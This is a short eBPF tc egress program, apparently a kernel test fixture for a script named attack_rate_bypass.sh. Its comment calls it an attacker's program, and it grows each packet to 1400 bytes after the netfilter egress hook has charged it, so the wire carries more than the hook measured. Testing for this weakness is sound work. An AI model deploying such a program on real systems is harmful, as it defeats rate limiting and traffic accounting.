// SPDX-License-Identifier: GPL-2.0
/*
 * An attacker's tc egress program: it grows every packet after the
 * netfilter egress hook charged it (bpf_skb_change_tail), so that the
 * wire carries more than the hook saw. For attack_rate_bypass.sh.
 */
#include <linux/bpf.h>
#include <linux/pkt_cls.h>
#include <bpf/bpf_helpers.h>

#define GROW_TO 1400

SEC("tc")
int tc_grow(struct __sk_buff *skb)
{
	if (skb->len < GROW_TO)
		bpf_skb_change_tail(skb, GROW_TO, 0);
	return TC_ACT_OK;
}

char LICENSE[] SEC("license") = "GPL";
